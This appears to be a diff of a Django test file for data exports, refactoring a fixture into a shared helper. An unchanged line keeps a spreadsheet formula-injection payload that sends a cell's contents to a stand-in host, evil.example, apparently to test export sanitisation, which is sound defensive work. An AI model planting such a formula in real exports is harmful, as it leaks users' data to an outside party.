@@ -1,6 +1,5 @@
 import datetime as dt
 from dataclasses import dataclass
-from decimal import Decimal
 
 import pytest
 from django.test import Client
@@ -9,15 +8,14 @@ from django.utils import timezone
 from analytics.compute import run_snapshot
 from analytics.models import SplitSignal
 from backlog.models import ItemStatus
-from funding.models import FundingMode, InvestmentRequest, RequestStatus
+from funding.models import FundingMode
 from funding.services import allocation_set, current_fiscal_year
 from metrics.models import Reading
-from products.models import Stage
 from reviews import services as reviews
 from tests.backlog.factories import BacklogItemFactory
 from tests.metrics.factories import MetricFactory
-from tests.portfolio.factories import ClusterFactory, PersonFactory
 from tests.products.factories import ProductFactory
+from tests.world import small_portfolio
 
 # What readings' `source` accepts today, and what a spreadsheet would run as a formula.
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
@@ -52,19 +50,9 @@ class World:
 @pytest.fixture
 def world(db, leader) -> World:
     """A little of everything each list shows, with rows a filter keeps and rows it drops."""
-    ana = PersonFactory(name="Ana Alvarez", email="ana@example.org")
-    bo = PersonFactory(name="Bo Berg", email="bo@example.org")
-    cy = PersonFactory(
-        name="Cy Departed", email="cy@example.org", active=False, departed_on=dt.date(2026, 1, 5)
-    )
-    hr = ClusterFactory(name="HR services", slug="hr-services", owner=bo)
-    ClusterFactory(name="Finance", slug="finance", owner=ana)
-    payroll = ProductFactory(name="Payroll", slug="payroll", owner=ana)
-    intranet = ProductFactory(
-        name="Intranet", slug="intranet", owner=bo, lifecycle_stage=Stage.GROWTH
-    )
-    badges = ProductFactory(name="Badges", slug="badges", owner=bo, cluster=hr)
-    leave = ProductFactory(name="Leave", slug="leave", owner=bo, cluster=hr)
+    base = small_portfolio(purpose="Exports")
+    ana, bo, cy, hr = base.ana, base.bo, base.cy, base.hr
+    payroll, intranet, badges, leave = base.payroll, base.intranet, base.badges, base.leave
     ProductFactory(name="Old wiki", slug="old-wiki", owner=cy)  # orphaned: a candidate
 
     BacklogItemFactory(product=badges, title="Badge printer")
@@ -87,20 +75,6 @@ def world(db, leader) -> World:
         )
 
     year = current_fiscal_year()
-    for product, status, fiscal_year in [
-        (payroll, RequestStatus.SUBMITTED, year),
-        (badges, RequestStatus.SUBMITTED, year),
-        (leave, RequestStatus.SUBMITTED, year - 1),
-        (leave, RequestStatus.APPROVED, year),
-    ]:
-        InvestmentRequest.objects.create(
-            unit=product.unit,
-            product=product,
-            fiscal_year=fiscal_year,
-            amount=Decimal("1000.00"),
-            purpose="Exports",
-            status=status,
-        )
     allocation_set(
         actor=leader,
         unit=payroll.unit,
